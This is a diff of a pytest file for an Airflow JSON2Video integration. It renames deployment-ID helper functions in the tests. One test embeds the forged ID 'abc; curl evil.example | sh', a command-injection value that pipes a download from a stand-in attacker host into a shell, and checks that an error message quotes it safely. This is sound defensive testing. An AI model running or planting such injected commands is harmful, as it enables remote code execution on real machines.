@@ -10,16 +10,16 @@ import pytest
 
 from airflow_json2video import deployment as module
 from airflow_json2video import version_compat
-from airflow_json2video.core.identity import Stamp, TaskIdentity, deployment_of_id, stamp
+from airflow_json2video.core.identity import Stamp, TaskIdentity, add_stamp, deployment_from_id
 from airflow_json2video.deployment import (
     ID_VARIABLE,
-    deployment_of,
-    known_deployment,
+    get_deployment,
+    get_or_create_deployment,
     require_same_deployment,
 )
 from airflow_json2video.exceptions import Json2VideoError
 from airflow_json2video.hooks.json2video import Json2VideoHook
-from airflow_json2video.submission.lookup import require_no_namesakes
+from airflow_json2video.submission.lookup import require_no_other_render
 
 TI = SimpleNamespace()
 
@@ -118,7 +118,7 @@ def api(monkeypatch):
 
 
 def identify(namespace=None, *, log=None, sleep=lambda seconds: None, **more):
-    return deployment_of(namespace, ti=TI, log=Log() if log is None else log, sleep=sleep, **more)
+    return get_or_create_deployment(namespace, ti=TI, log=Log() if log is None else log, sleep=sleep, **more)
 
 
 # --- in the database ----------------------------------------------------------------------------
@@ -126,17 +126,17 @@ def identify(namespace=None, *, log=None, sleep=lambda seconds: None, **more):
 
 def test_an_id_is_created_once_and_the_same_for_every_process_with_that_database(database):
     log = Log()
-    assert known_deployment(None) is None
+    assert get_deployment(None) is None
     first = identify(log=log)
     assert first.startswith("id:")
     assert len(first) > 20
     assert "had no id" in log[0]
-    assert identify(log=log) == first == known_deployment(None)
+    assert identify(log=log) == first == get_deployment(None)
     assert len(log) == 1
 
 
 def test_a_namespace_needs_no_database_and_goes_before_the_id():
-    assert identify("staging") == known_deployment("staging") == "namespace:staging"
+    assert identify("staging") == get_deployment("staging") == "namespace:staging"
 
 
 def test_two_that_create_the_id_at_the_same_time_have_one(database):
@@ -157,7 +157,7 @@ def test_an_id_that_cannot_be_decrypted_any_more_does_not_become_a_new_one(datab
     assert no.value.retryable
     assert sum(waits) == 60
     with pytest.raises(Json2VideoError):
-        known_deployment(None)
+        get_deployment(None)
     assert first.startswith("id:")
 
 
@@ -299,15 +299,15 @@ def test_not_found_is_told_from_an_api_that_cannot_answer(supervisor, raises):
     from airflow.sdk.execution_time import comms
 
     supervisor.answers["GetVariable"] = comms.VariableResult(key=ID_VARIABLE, value="ours")
-    assert known_deployment(None) == "id:ours"
+    assert get_deployment(None) == "id:ours"
     supervisor.refuses("GetVariable", "API_SERVER_ERROR", raises=raises)
     with pytest.raises(Json2VideoError, match="'namespace'") as no:
-        known_deployment(None)
+        get_deployment(None)
     assert no.value.retryable
     supervisor.refuses("GetVariable", "VARIABLE_NOT_FOUND", raises=raises)
     if hasattr(comms, "GetVariableKeys"):
         supervisor.answers["GetVariableKeys"] = comms.VariableKeysResult(keys=[f"{ID_VARIABLE}_2"], total_entries=1)
-    assert known_deployment(None) is None
+    assert get_deployment(None) is None
 
 
 def test_a_variable_that_is_listed_and_not_found_cannot_be_read(supervisor):
@@ -318,19 +318,19 @@ def test_a_variable_that_is_listed_and_not_found_cannot_be_read(supervisor):
     supervisor.refuses("GetVariable", "VARIABLE_NOT_FOUND", raises=False)
     supervisor.answers["GetVariableKeys"] = comms.VariableKeysResult(keys=[ID_VARIABLE], total_entries=1)
     with pytest.raises(Json2VideoError, match=r"exists, and its value cannot be read.*rotate-fernet-key") as no:
-        known_deployment(None)
+        get_deployment(None)
     assert no.value.retryable
     supervisor.refuses("GetVariableKeys", "API_SERVER_ERROR")
     with pytest.raises(Json2VideoError, match="is unknown"):
-        known_deployment(None)
+        get_deployment(None)
 
 
 def test_what_a_stamp_says_is_quoted_in_the_command_that_an_error_advises(connection):
     identity = TaskIdentity("", "d", "r", "t", -1, 0)
-    forged = replace(identity, deployment=deployment_of_id("abc; curl evil.example | sh"))
+    forged = replace(identity, deployment=deployment_from_id("abc; curl evil.example | sh"))
     mark = Stamp.of(forged, "f", attempt=1)
     hook = Json2VideoHook(connection)
-    hook.submit_movie(stamp({"scenes": [{"duration": 1}]}, mark))
+    hook.submit_movie(add_stamp({"scenes": [{"duration": 1}]}, mark))
     with pytest.raises(Json2VideoError) as refused:
-        require_no_namesakes(hook.client, {identity.namesake_key}, since=None)
+        require_no_other_render(hook.client, {identity.name_key}, since=None)
     assert "airflow variables set json2video_deployment_id 'abc; curl evil.example | sh'. If not" in str(refused.value)
